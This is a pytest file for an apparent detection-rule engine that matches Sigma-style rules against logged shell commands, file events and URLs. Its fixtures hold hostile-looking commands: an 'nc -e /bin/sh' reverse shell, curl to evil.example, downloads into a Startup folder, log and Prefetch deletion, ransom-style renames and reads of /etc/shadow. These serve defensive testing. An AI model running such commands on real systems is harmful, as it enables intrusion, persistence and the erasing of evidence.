"""Rules as others write them: for processes, files and requests of three systems, networks and
letters of every spelling. Each matches what a person who reads the call expects, or is refused."""

from __future__ import annotations

import json
from pathlib import Path
from typing import Any

import pytest
from lake import found

from hookstream.rules.cases import CaseLake
from hookstream.rules.live import Live
from hookstream.rules.load import RuleError

SMALL = CaseLake()
HEAD = """title: A Rule
id: 3f0e8f2c-5a0c-4a55-9d5c-1b8b8d6a0b31
status: test
level: low
logsource: {logsource}
detection:
  {detection}
"""
CALLS = "{product: hookstream, service: calls}"
LINUX = "{product: linux, category: process_creation}"
WINDOWS = "{product: windows, category: process_creation}"
PROXY = "{category: proxy}"
WRITTEN = "{product: windows, category: file_event}"


def rule(tmp_path: Path, logsource: str, detection: str) -> Path:
    file = tmp_path / "a_rule.yml"
    if "condition:" not in detection:
        detection += "\n  condition: s"
    file.write_text(HEAD.format(logsource=logsource, detection=detection), "utf-8")
    return file


def finds(tmp_path: Path, logsource: str, detection: str, row: dict[str, Any]) -> bool:
    return bool(found(SMALL.fill({"calls": [row]}), rule(tmp_path, logsource, detection)))


CURL = r"s: {Image|endswith: '\curl.exe', CommandLine|contains: ' -o '}"
NOT_SYSTEM = (
    r"s: {Image|endswith: '\svchost.exe'}" + "\n  "
    r"f: {Image|startswith: 'C:\Windows\System32\'}" + "\n  condition: s and not f"
)


@pytest.mark.parametrize(
    ("logsource", "detection", "hits", "misses"),
    [
        (
            WINDOWS,
            CURL,
            ["curl.exe -o x http://a", r"C:\Windows\System32\curl.exe -o x http://a", "curl -o x y",
             r'"C:\Program Files\c\curl.exe" -o x', "/c/Windows/System32/curl.exe -o x",
             r"C:\Program Files\c\curl.exe -o x", r"& 'C:\a b\curl.exe' -o x", r".\curl.exe -o x",
             r"cmd.exe /c curl.exe -o x http://a", r"%TEMP%\curl.exe -o x"],
            ["echo curl.exe -o x", "curl.exe x; wget -o y", "mycurl.exe -o x"],
        ),
        (LINUX, "s: {Image|startswith: /tmp/}",
            ["/tmp/evil.bin -x", "sudo /tmp/x", "cd /tmp && ./x", "bash -c '/tmp/x'", "P=/tmp/x; $P"],
            ["/usr/bin/ls /tmp/", "cat /tmp/x", "./x"]),
        (LINUX, "s: {Image: [/bin/dd, /usr/bin/xz]}", ["dd if=a", "/bin/dd if=a", "env xz a"], ["./dd x"]),
        (LINUX, "s: {Image|endswith: /nohup}", ["nohup /tmp/x &", "/usr/bin/nohup ./x"], ["echo nohup"]),
        (LINUX, "s: {Image|endswith: [/nice, /xargs, /timeout, /doas, /setsid, /time, /strace]}",
            ["nice -n 5 x", "echo a | xargs rm", "timeout 5 x", "doas x", "setsid -w x", "time x",
             "sudo strace -o f x"], ["ls nice", "man xargs"]),
        (LINUX, "s: {Image|endswith: /x}",
            ["nsenter -t 1 -m /tmp/x", "unshare -r /tmp/x", "systemd-run -p A=b --user /tmp/x", "ls | entr /tmp/x",
             "bwrap --ro-bind / / --dev /dev /tmp/x", "runuser -u bob -- /tmp/x", "setarch x86_64 /tmp/x"],
            ["runuser bob x", "echo unshare x"]),
        (LINUX, "s: {Image|endswith: /x, CommandLine|startswith: x}", ["sudo nice x -a"], ["sudo y x"]),
        (LINUX, "s: {ParentImage|endswith: /sudo, Image|endswith: /tc}", ["sudo tc q"], ["tc q", "sudo ls; tc q"]),
        (LINUX, "s: {ParentImage|endswith: /bash, Image|endswith: /curl}", ["bash -c 'curl x'", "curl x"], ["xargs curl"]),
        (LINUX, "s: {CommandLine|contains: 'nc -e /bin/sh'}", ["nc -e '/bin/sh' h 1"], ["nc -e"]),
        (WINDOWS, r"s: {CommandLine|contains: '\AppData\Local\'}",
            [r"type C:\Users\a\AppData\Local\x", "cat C:/Users/a/AppData/Local/x", "cat /c/Users/a/AppData/Local/x",
             r"type %LOCALAPPDATA%\x", r"gc $env:LOCALAPPDATA\x"], ["cat AppData"]),
        (WINDOWS, NOT_SYSTEM, [r"C:\Temp\svchost.exe -k"], ["svchost.exe -k", r"c:\windows\system32\svchost.exe"]),
        # Another program of the line hides nothing.
        (LINUX, "s: {CommandLine|contains: delete}\n  f: {Image|endswith: /legit}\n  condition: s and not f",
            ["evil delete; legit"], ["legit delete", "legit delete; ls"]),
        (WINDOWS, "s: {OriginalFileName: Curl.EXE}", ["curl -o x", r"C:\x\curl.exe"], ["wget x"]),
        (WINDOWS, "s: {Image|endswith: '\\x.exe'}\n  f: {Company: Known}\n  condition: s and not f", ["x.exe"], ["y"]),
        (CALLS, "s: {command_programs: sudo}", ["sudo ls"], ["ls sudo"]),
        (CALLS, "s: {command_hosts|cidr: 10.0.0.0/8}",
            ["curl http://10.1.2.3/x", "curl http://0x0a.1.2.3/x", "curl http://10.66051/x",
             "curl http://[::ffff:10.1.2.3]/x", "curl http://167838211/", "nc 167838211 80"],
            ["curl http://10.evil.example/", "curl http://10.0.0.1.nip.io", "curl http://11.1.2.3/x"]),
        (CALLS, "s: {command_hosts|cidr: '2001:db8::/32'}",
            ["curl http://[2001:db8::5]/x", "curl 'http://[2001:DB8:0:0:0:0:0:5]:80/'"],
            ["curl http://[2001:db9::5]/x"]),
        (CALLS, "s: {command_hosts|cidr: 'fe80::/10'}",
            ["curl http://[fe80::1%25eth0]/", "ssh fe80::1", "ssh bob@fe80::1%eth0 ls", "nc -6 fe80::1 80"],
            ["curl http://fe80.example/", "ssh -p 22 fe80", "curl http://[fec0::1]/", "nc -l 4242"]),
        (CALLS, "k: ['curl*evil', '*rm -r?']\n  condition: k", ["sudo curl http://evil.example", "x; rm -rf y"],
            ["wget evil curl"]),
        (CALLS, "s: {command|contains: İZİN}", ["git commit -m 'İZİN'", "echo izin"], ["git commit -m x"]),
        (CALLS, "s: {command|contains: ΟΔΟΣ}", ["echo ΟΔΟΣ", "echo οδος", "echo οδοσ"], ["echo x"]),
        (CALLS, "s: {command|contains: STRASSE}", ["echo Straße", "echo STRAẞE"], ["echo x"]),
        (CALLS, "s: {command|contains: straße}", ["echo STRASSE", "echo Straße"], ["echo x"]),
        (CALLS, "s: {command|contains: É}", ["echo e\u0301"], ["echo e"]),
        (CALLS, "s: {command|contains: ls}\n  f: {command_hosts|exists: true}\n  condition: s and not f",
            ["ls"], ["curl http://a.example/ls"]),
        (CALLS, "s: {command_effects: null}", ["ls"], ["git push --force"]),
    ],
)  # fmt: skip
def test_a_rule_about_commands_finds_what_a_reader_expects(
    tmp_path: Path, logsource: str, detection: str, hits: list[str], misses: list[str]
) -> None:
    for command in hits:
        assert finds(tmp_path, logsource, detection, {"command": command}), command
    for command in misses:
        assert not finds(tmp_path, logsource, detection, {"command": command}), command


@pytest.mark.parametrize(
    ("category", "detection", "hits", "misses"),
    [
        ("file_delete", "s: {TargetFilename|endswith: .log}",
            ["rm -f /x/a.log", "sudo shred -u a.log", "unlink a.log", r"del /f /q C:\x\a.log",
             r"Remove-Item -Path C:\x, C:\a.log -Force", "find /var/log -name '*.log' -delete",
             "find . -name '*.log' | xargs rm", "find /x -name a.log -exec rm {} +", "rm {a,b}.log",
             r"Get-ChildItem C:\x -Filter *.log | Remove-Item", "ls *.log | % { ri $_ }", "git rm a.log",
             "git clean -fdx a.log", r"if (Test-Path a) { Remove-Item C:\a.log -Force }", "F=a.log; rm $F",
             r'cmd /c "del C:\a.log"', "python3 -c \"import os; os.remove('/x/a.log')\"", "node -e 'fs.rmSync(`x`)' a; rm a.log",
             r'[System.IO.File]::Delete("C:\a.log")', "cd /var/log && rm a.log", "bash -c 'rm a.log'"],
            ["cat a.log", "echo x > a.log", "git rm --cached a.log", "git clean -n a.log", "mv a.log b",
             "Remove-Item a -Exclude b.log", "echo rm a.log", "find . -name '*.log'", "grep rm a.log"]),
        ("file_delete", r"s: {TargetFilename|contains: '\Prefetch\'}",
            [r"cd C:\Windows\Prefetch && del x.pf", r"rm C:/Windows/Prefetch/x.pf", "rm /c/Windows/Prefetch/x.pf"],
            [r"cd C:\Windows\Prefetch && dir x.pf"]),
        ("file_event", r"s: {TargetFilename|endswith: '\Startup\x.bat'}",
            [r"copy x.bat C:\u\Startup\x.bat", r"cp x.bat 'C:\u\Startup\'", r'copy a\x.bat "C:\u v\Startup\"',
             r"iwr http://h/y -OutFile C:\u\Startup\x.bat", r"Move-Item x.bat -Destination C:\u\Startup\x.bat",
             r"certutil -urlcache -f http://h/y C:\u\Startup\x.bat", r"cd C:\u\Startup && curl -O http://h/x.bat",
             r"'x' | Out-File C:\u\Startup\x.bat", "mv -t /c/u/Startup x.bat", r"ren C:\u\Startup\y x.bat",
             r"curl -sSLo C:\u\Startup\x.bat http://h/y", r"Set-Content C:\u\Startup\x.bat -Value y"],
            [r"del C:\u\Startup\x.bat", r"type C:\u\Startup\x.bat", r"Set-Content y -Value C:\u\Startup\x.bat"]),
        ("file_rename", r"s: {SourceFilename|endswith: .doc, TargetFilename|contains: .doc.}",
            ["mv a.doc a.doc.locked", r"ren C:\a.doc a.doc.x", "Rename-Item -Path a.doc -NewName a.doc.x", "git mv a.doc b.doc.x"],
            ["cp a.doc a.doc.locked", "mv a.doc b", "rm a.doc; touch a.doc.x"]),
        ("file_access", r"s: {TargetFilename|endswith: '\x.ini'}", [r"type C:\x.ini", r"gc C:\a,C:\x.ini", "cp /c/u/x.ini y"],
            [r"echo > C:\x.ini"]),
    ],
)  # fmt: skip
def test_what_a_command_does_to_files_is_read_by_one_model(
    tmp_path: Path, category: str, detection: str, hits: list[str], misses: list[str]
) -> None:
    source = f"{{category: {category}, product: windows}}"
    for command, want in (*((c, True) for c in hits), *((c, False) for c in misses)):
        row = {"action_category": "shell", "command": command}
        assert finds(tmp_path, source, detection, row) is want, command


def test_a_relative_file_is_in_the_working_folder(tmp_path: Path) -> None:
    source, detection = "{category: file_delete}", "s: {TargetFilename: [/w/x/a, 'C:\\w\\a']}"
    for cwd, command, want in (("/w/x", "rm a", True), (r"C:\w", "del a", True), ("/w", "rm a", False),
            ("/w/x", "rm /a", False)):  # fmt: skip
        row = {"action_category": "shell", "command": command, "cwd": cwd}
        assert finds(tmp_path, source, detection, row) is want, command


URL = "https://a.example:8443/passwd/f.exe?q=/etc/shadow"


@pytest.mark.parametrize(
    ("logsource", "detection", "row", "want"),
    [
        (PROXY, "s: {cs-host: a.example}", {"url": URL}, True),
        (PROXY, "s: {cs-host|endswith: .exe}", {"url": URL}, False),
        (PROXY, "s: {DestinationHostname|endswith: .onion}", {"url": "https://a.example/x.onion"}, False),
        (PROXY, "s: {c-uri-query|contains: shadow}", {"url": URL}, True),
        (PROXY, "s: {c-uri-query|contains: passwd}", {"url": URL}, False),
        (PROXY, "s: {c-uri|startswith: [/passwd]}", {"url": URL}, True),
        (PROXY, "s: {c-uri|contains: '://a.example'}", {"url": URL}, True),
        (PROXY, "s: {c-uri-extension: exe}", {"url": URL}, True),
        (PROXY, "s: {cs-uri-stem|endswith: .exe}", {"url": URL}, True),
        (PROXY, "s: {dst_ip|cidr: 10.0.0.0/8}", {"url": "http://10.1.1.1/"}, True),
        (PROXY, "s: {dst_ip|cidr: 'fd00::/8'}", {"url": "http://[fd00::1]:80/"}, True),
        (PROXY, "s: {c-uri-query: null}", {"url": "http://h/x"}, True),
        (WRITTEN, r"s: {TargetFilename|contains: '\Startup\'}", {"file_path": "C:/x/Startup/a"}, True),
        (WRITTEN, r"s: {TargetFilename|endswith: '.lnk'}", {"command": r"copy a b; echo x > C:\a.lnk"}, True),
        (WRITTEN, r"s: {TargetFilename|endswith: '.lnk'}", {"command": "cat a.lnk"}, False),
        (CALLS, "s: {command|fieldref|contains: file_path}",
            {"command": "cat /Etc/passwd now", "file_path": "/etc/passwd"}, True),
        (CALLS, "s: {command|fieldref|contains: file_path}", {"command": "cat x", "file_path": "/e"}, False),
        (CALLS, "s: {command|fieldref|endswith: file_path}", {"command": "cat /e", "file_path": "/e"}, True),
        (CALLS, "s: {command|fieldref|startswith: cwd}", {"command": "x /e", "cwd": "/e"}, False),
        (CALLS, "s: {file_path|fieldref: command_reads}", {"command": "cat /e", "file_path": "/e"}, True),
    ],
)  # fmt: skip
def test_a_rule_about_requests_and_files_reads_their_parts(
    tmp_path: Path, logsource: str, detection: str, row: dict[str, Any], want: bool
) -> None:
    category = {PROXY: "web_request", WRITTEN: "shell" if "command" in row else "file_write"}
    row = {"action_category": category.get(logsource, "shell"), **row}
    assert finds(tmp_path, logsource, detection, row) is want


@pytest.mark.parametrize(
    ("logsource", "detection", "reason"),
    [
        (WINDOWS, r"s: {ParentImage|endswith: '\winword.exe'}", "no command line shows that"),
        (WINDOWS, "s: {ParentCommandLine|contains: x}", "ParentCommandLine: what started"),
        (WINDOWS, "s: {Hashes|contains: IMPHASH=0}", "Hashes: a command line says nothing"),
        (
            WINDOWS,
            "s: {OriginalFileName: procdump}\n  f: {Image|endswith: '\\procdump.exe'}\n"
            "  condition: s and not f",
            "a renamed program",
        ),
        (PROXY, "s: {c-useragent: x}", "c-useragent: agents report the URL"),
        (WRITTEN, r"s: {Image|endswith: '\x.exe'}", "Image: the agent itself handles"),
    ],
)
def test_what_can_never_match_is_refused_by_name(
    tmp_path: Path, logsource: str, detection: str, reason: str
) -> None:
    with pytest.raises(RuleError, match=reason):
        finds(tmp_path, logsource, detection, {"command": "ls"})


def test_a_filter_of_no_rule_is_refused_by_name(tmp_path: Path) -> None:
    file = rule(tmp_path, CALLS, "s: {command: x}")
    text = HEAD.format(logsource=CALLS, detection="").replace("0b31", "0b32")
    text = text.replace(
        "detection:", "filter:\n  rules: [nowhere]\n  f: {user_id: ci}\n  condition: not f"
    )
    (tmp_path / "f.yml").write_text(text, "utf-8")
    with pytest.raises(RuleError, match=r"f\.yml:\d+: a filter of no rule here .*nowhere"):
        found(SMALL.fill({"calls": []}), tmp_path)
    assert file.exists()


def test_a_stream_reads_processes_and_requests_as_a_lake_does(tmp_path: Path) -> None:
    (tmp_path / "windows").mkdir()
    rule(tmp_path / "windows", WINDOWS, CURL)
    live = Live([tmp_path])
    assert [one.title for one in live.rules["calls"]] == ["A Rule"]
    assert json.dumps(live.asked["calls"]).count("command_processes") == 1
